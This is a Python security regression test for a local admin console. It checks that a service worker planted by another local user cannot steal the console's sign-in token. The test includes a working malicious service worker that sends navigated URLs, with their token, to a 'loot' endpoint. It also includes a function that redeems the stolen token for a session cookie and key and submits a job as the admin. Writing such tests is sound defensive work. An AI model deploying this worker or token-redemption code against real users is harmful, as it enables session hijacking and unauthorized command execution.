"""A service worker that another local user's server left for the console's origin.

While Mallory (a local user, not root) serves 127.0.0.1:PORT, before the console takes it (the
fixed port of --port, or of the docs' `ssh -L 8080:...`), any page of hers the admin's browser
opens (PORT's own, or one on another port of 127.0.0.1 that frames PORT: the same site, so the
same storage) can register a service worker for http://127.0.0.1:PORT/ with scope /. It stays
in the browser's profile after her server is gone. When the admin later opens the console's
link on that origin, the worker gets the navigation before any request reaches rnx: it can pass
the one-time token to Mallory, who trades it first for the session's cookie and key, or answer
with a page of hers. Clear-Site-Data on the sign-in comes too late (the sign-in never reaches
rnx). So the console's link names an origin nobody knew before it was printed.
"""
import http.client
import queue
import shutil
import threading
import urllib.parse
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from conftest import free_port
from test_hostile_console_cache import jobs_named, needs_browser
from console_util import Console

try:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait
except ImportError:   # pragma: no cover
    webdriver = None
CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")

# Mallory's worker: every navigation of its scope sends its URL (the token in it) to her other
# port, and is answered with her page
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {{
  if (e.request.mode !== "navigate") return;
  e.waitUntil(fetch("http://127.0.0.1:{loot}/loot?u=" + encodeURIComponent(e.request.url), {{mode: "no-cors"}})
    .catch(() => {{}}));
  e.respondWith(new Response("<!doctype html><title>mallory</title><p>console", {{
    headers: {{"Content-Type": "text/html"}}}}));
}});
"""
REGISTER = """<!doctype html><title>notebook</title><script>
navigator.serviceWorker.register("/sw.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "registered"; parent.postMessage("registered", "*"); },
        (e) => { document.title = "failed " + e; parent.postMessage("failed " + e, "*"); });
</script>"""


class Mallory(BaseHTTPRequestHandler):
    routes = {}
    loot = queue.Queue()

    def do_GET(self):
        path, _, query = self.path.partition("?")
        if path == "/loot":
            Mallory.loot.put(urllib.parse.parse_qs(query).get("u", [""])[0])
        ctype, body = Mallory.routes.get(path, ("text/plain", ""))
        body = body.encode()
        self.send_response(200 if body or path == "/loot" else 404)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


def serve(port):
    srv = ThreadingHTTPServer(("127.0.0.1", port), Mallory)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def redeem(url, port, mark):
    """What Mallory does with a console URL her worker saw: its token, sent to the console's
    port as her own request (the Host the URL names), for the cookie and the key; then a job
    of hers submitted as the admin. The status of that submission, or why there was none."""
    u = urllib.parse.urlsplit(url)
    token = urllib.parse.parse_qs(u.query).get("token", [None])[0]
    if not token:
        return f"no token in {url}"
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c.request("GET", f"/?token={token}", headers={"Host": u.netloc})
    r = c.getresponse()
    r.read()
    if r.status != 303:
        return f"sign-in {r.status}"
    cookie = r.getheader("Set-Cookie").split(";")[0]
    key = urllib.parse.parse_qs(urllib.parse.urlsplit(r.getheader("Location")).fragment)["key"][0]
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c.request("POST", "/v1/jobs", body=f'{{"command": "true", "name": "{mark}"}}',
              headers={"Host": u.netloc, "Cookie": cookie, "X-Console-Key": key, "Content-Type": "application/json"})
    r = c.getresponse()
    r.read()
    return f"submitted {r.status}"


@needs_browser
@pytest.mark.parametrize("lure", ["page", "frame"])
def test_a_worker_left_for_the_port_does_not_see_the_consoles_link(daemon, lure, tmp_path):
    """Mallory serves PORT and has the admin's browser register her worker there (page: the
    admin opens PORT's /; frame: a page of hers on another port frames it). She lets PORT go;
    the admin runs rnx console --port PORT and opens its link in the same profile: the page is
    the console's, her worker never sees the token, and no job of hers is submitted as root."""
    port, mark = free_port(), "jhcw-" + uuid.uuid4().hex[:8]
    loot_srv = serve(0)
    Mallory.routes = {"/": ("text/html", REGISTER),
                      "/sw.js": ("text/javascript", WORKER.format(loot=loot_srv.server_address[1])),
                      "/cats": ("text/html", f'<!doctype html><title>cats</title><script src="/cats.js"></script>'
                                f'<iframe src="http://127.0.0.1:{port}/"></iframe>'),
                      "/cats.js": ("text/javascript",
                                   'addEventListener("message", (e) => { document.title = e.data; });')}
    Mallory.loot = queue.Queue()
    evil = serve(port)
    o = webdriver.ChromeOptions()
    o.binary_location = CHROMIUM
    for a in ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
              f"--user-data-dir={tmp_path / 'profile'}"]:
        o.add_argument(a)
    drv = webdriver.Chrome(service=Service(DRIVER), options=o)
    con = None
    try:
        drv.get(f"http://127.0.0.1:{port}/" if lure == "page" else
                f"http://127.0.0.1:{loot_srv.server_address[1]}/cats")
        WebDriverWait(drv, 20).until(lambda x: x.title == "registered" or x.title.startswith("failed"))
        assert drv.title == "registered", drv.title   # the worker is in place (else this test shows nothing)
        drv.get("about:blank")
        evil.shutdown()
        evil.server_close()

        con = Console(daemon, args=["--port", str(port)])
        drv.get(con.url)
        WebDriverWait(drv, 20).until(lambda x: x.title == "mallory" or x.find_element(By.ID, "live").text == "live")
        seen = title = drv.title
        try:
            seen = Mallory.loot.get(timeout=5 if title == "mallory" else 1)
            done = redeem(seen, port, mark)
        except queue.Empty:
            done = "nothing seen"
        assert jobs_named(daemon, mark) == [], f"Mallory's worker saw {seen} and she {done}"
        assert title != "mallory", f"Mallory's worker answered the console's link ({done})"
        WebDriverWait(drv, 20).until(lambda x: x.find_element(By.ID, "who").text.endswith("(admin)"))
    finally:
        drv.quit()
        loot_srv.shutdown()
        loot_srv.server_close()
        if con:
            con.stop()
